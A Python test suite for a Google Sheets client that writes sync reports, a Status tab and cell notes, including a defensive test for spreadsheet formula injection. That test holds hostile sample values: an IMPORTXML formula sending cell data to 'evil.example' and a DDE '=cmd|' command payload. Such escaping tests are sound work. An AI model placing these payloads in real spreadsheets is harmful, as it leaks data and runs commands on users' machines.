"""Writing the sync report back: one batchUpdate, a Status tab, notes on the offending cells."""

from __future__ import annotations

import json
import re

from hypothesis import given
from hypothesis import strategies as st

from admin_sheets.google_sheets import SheetsClient, SyncReport, escape_cell
from admin_sheets.model import Problem
from admin_sheets.parse import parse_workbook
from tests.fakes.sheets_api import FakeSheetsApi
from tests.integration.sheets.conftest import example_raw

HUMAN = "Chen: keep this owner until the expo is over"


def _workbook(fake: FakeSheetsApi, notes: dict[str, dict[str, str]] | None = None, **tabs: list[list[str]]) -> str:
    raw = example_raw()
    raw.update(tabs)
    return fake.add_spreadsheet("Closeloop rules", raw, notes=notes)


def test_first_report_creates_status_tab_and_notes_in_one_request(fake: FakeSheetsApi, client: SheetsClient) -> None:
    raw = example_raw()
    raw["Owners"][2][6] = "lots"  # capacity of the second owner: G3
    sid = fake.add_spreadsheet("Closeloop rules", raw)
    book = client.read_workbook(sid)
    problems = parse_workbook(book.raw).problems
    assert [p.cell for p in problems] == ["G3"]
    fake.reset_requests()

    client.write_report(book, SyncReport("2026-11-22T08:00:00Z", "rejected", None, problems))

    assert fake.requests == [("POST", f"/v4/spreadsheets/{sid}:batchUpdate")]
    kinds = [next(iter(r)) for r in fake.bodies[0]["requests"]]
    assert kinds[0] == "addSheet" and kinds.count("addSheet") == 1
    status = fake.values(sid, "Status")
    assert status[:4] == [
        ["Last sync", "2026-11-22T08:00:00Z"],
        ["Rules version", "—"],
        [
            "Result",
            "rejected: this workbook has 1 problem(s), listed below, so nothing was published; no rules are live yet",
        ],
        ["Problems", "1"],
    ]
    owners_id = book.sheet_ids["Owners"]
    assert status[6] == [
        "Owners",
        "G3",
        problems[0].message,
        f'=HYPERLINK("#gid={owners_id}&range=G3", "Owners!G3")',
    ]
    assert fake.notes(sid, "Owners") == {"G3": f"⚠ Closeloop: {problems[0].message}"}
    assert fake.formats(sid, "Status")["A6"] == {"textFormat": {"bold": True}}
    assert fake.sheet_props(sid, "Status")["gridProperties"]["frozenRowCount"] == 6


def test_next_report_rewrites_status_and_clears_only_stale_closeloop_notes(
    fake: FakeSheetsApi, client: SheetsClient
) -> None:
    sid = _workbook(
        fake,
        notes={"Owners": {"A2": HUMAN, "G3": "⚠ Closeloop: capacity must be a number", "B4": "⚠ Closeloop: old"}},
    )
    client.write_report(client.read_workbook(sid), SyncReport("t0", "accepted", "v1", []))  # a 50-row Status tab
    first = client.read_workbook(sid)
    many = [Problem("Owners", f"B{n}", f"problem {n}") for n in range(2, 60)]  # more rows than a new Status tab has
    client.write_report(first, SyncReport("t1", "rejected", None, many))
    assert len(fake.values(sid, "Status")) == 6 + len(many)

    book = client.read_workbook(sid)
    assert "Status" in book.sheet_ids and "Status" not in book.raw
    fake.reset_requests()
    now = [Problem("Owners", "A2", "owner_id is required")]
    client.write_report(book, SyncReport("t2", "rejected", None, now))

    assert len(fake.requests) == 1
    assert [next(iter(r)) for r in fake.bodies[0]["requests"]].count("addSheet") == 0
    assert fake.tab_titles(sid).count("Status") == 1
    status = fake.values(sid, "Status")
    assert len(status) == 7 and status[0][1] == "t2" and status[6][:3] == ["Owners", "A2", "owner_id is required"]
    notes = fake.notes(sid, "Owners")
    # The human's note on A2 stays, below ours; the stale notes are gone.
    assert notes == {"A2": f"⚠ Closeloop: owner_id is required\n\n—— {HUMAN}"}

    book = client.read_workbook(sid)
    assert book.human_notes == {"Owners": {"A2": HUMAN}}
    client.write_report(book, SyncReport("t3", "accepted", "v42", []))
    assert fake.notes(sid, "Owners") == {"A2": HUMAN}  # fixed: the person's note is back as it was
    assert fake.values(sid, "Status") == [
        ["Last sync", "t3"],
        ["Rules version", "v42"],
        ["Result", "published: this workbook is live now, as version v42"],
        ["Problems", "0"],
        [],
        ["Tab", "Cell", "Problem", "Go to cell"],
    ]


def test_chinese_status_tab_and_labels(fake: FakeSheetsApi, client: SheetsClient) -> None:
    sid = _workbook(fake)
    book = client.read_workbook(sid)
    client.write_report(book, SyncReport("t", "unchanged", "v1", [], locale="zh-CN"))
    assert fake.values(sid, "状态")[:4] == [
        ["最近同步", "t"],
        ["规则版本", "v1"],
        ["结果", "无变化：本工作簿已是生效的版本 v1，无需发布"],
        ["问题数", "0"],
    ]
    client.write_report(client.read_workbook(sid), SyncReport("t2", "unchanged", "v1", [], locale="en"))
    assert "Status" not in fake.tab_titles(sid)  # the existing 状态 tab is reused


def test_problem_past_the_grid_grows_it_instead_of_failing_the_batch(fake: FakeSheetsApi, client: SheetsClient) -> None:
    sid = _workbook(fake)
    book = client.read_workbook(sid)
    client.write_report(book, SyncReport("t", "rejected", None, [Problem("Owners", "AD1", 'missing column "team"')]))
    assert fake.notes(sid, "Owners") == {"AD1": '⚠ Closeloop: missing column "team"'}
    assert fake.sheet_props(sid, "Owners")["gridProperties"]["columnCount"] == 30


def test_missing_tab_is_reported_without_link_or_note(fake: FakeSheetsApi, client: SheetsClient) -> None:
    raw = example_raw()
    del raw["Scoring"]
    sid = fake.add_spreadsheet("Closeloop rules", raw)
    book = client.read_workbook(sid)
    problems = parse_workbook(book.raw).problems
    client.write_report(book, SyncReport("t", "rejected", None, problems))
    assert fake.values(sid, "Status")[6] == ["Scoring", "A1", problems[0].message, "Scoring!A1"]


def test_user_text_is_escaped_and_only_our_hyperlink_is_a_formula(fake: FakeSheetsApi, client: SheetsClient) -> None:
    sid = _workbook(fake)
    book = client.read_workbook(sid)
    hostile = [
        Problem("Owners", "B2", '=IMPORTXML("http://evil.example/?"&A1, "//a")'),
        Problem("Owners", "B3", "+1 555 0100 is not an owner"),
        Problem("Owners", "B4", "-2 must be positive"),
        Problem("Owners", "B5", "@SUM(A1:A9)"),
        Problem("Owners", "C2", ' \t=cmd|" /C calc"!A0'),
    ]
    fake.reset_requests()
    client.write_report(book, SyncReport("=NOW()", "rejected", "+v1", hostile))

    body = fake.bodies[0]
    formulas = re.findall(r'"formulaValue": "((?:[^"\\]|\\.)*)"', json.dumps(body, ensure_ascii=False))
    assert len(formulas) == len(hostile) and all(f.startswith("=HYPERLINK(") for f in formulas)
    status = fake.values(sid, "Status")
    assert status[0][1] == "'=NOW()" and status[1][1] == "'+v1"
    assert [row[2] for row in status[6:]] == ["'" + p.message for p in hostile]


def test_hyperlink_label_is_escaped_and_quotes_doubled(fake: FakeSheetsApi, client: SheetsClient) -> None:
    raw = example_raw()
    raw['=Owners "2"'] = raw.pop("Health")
    sid = fake.add_spreadsheet("Closeloop rules", raw)
    book = client.read_workbook(sid)
    client.write_report(book, SyncReport("t", "rejected", None, [Problem('=Owners "2"', "A1", "x")]))
    gid = book.sheet_ids['=Owners "2"']
    assert fake.values(sid, "Status")[6] == [
        '\'=Owners "2"',
        "A1",
        "x",
        f'=HYPERLINK("#gid={gid}&range=A1", "\'=Owners ""2""!A1")',
    ]


@given(st.text(max_size=20))
def test_escaped_text_never_starts_a_formula(text: str) -> None:
    escaped = escape_cell(text)
    assert escaped in (text, "'" + text)
    assert not re.match(r"^\s*[=+\-@]", escaped) or escaped.startswith("'")
    if text and text.lstrip()[:1] in ("=", "+", "-", "@"):
        assert escaped == "'" + text


def test_an_accepted_sync_lists_the_holiday_warning_in_the_status_tab(
    fake: FakeSheetsApi, client: SheetsClient
) -> None:
    """CONTRACT §14: holidays the package only estimates are told where ops staff look; the
    workbook still publishes and no cell gets a problem note."""
    from datetime import date

    sid = fake.add_spreadsheet("Closeloop rules", example_raw())
    book = client.read_workbook(sid)
    parsed = parse_workbook(book.raw, today=date(2026, 12, 7))
    assert parsed.ok and parsed.warnings
    client.write_report(book, SyncReport("t", "accepted", "v7", [], warnings=parsed.warnings))
    status = fake.values(sid, "Status")
    assert status[3] == ["Problems", "0"]
    rows = [row for row in status if len(row) > 2 and "CN schedule for 2027" in row[2]]
    assert rows and rows[0][:2] == ["Calendars", "G2"] and rows[0][2].startswith("warning:")
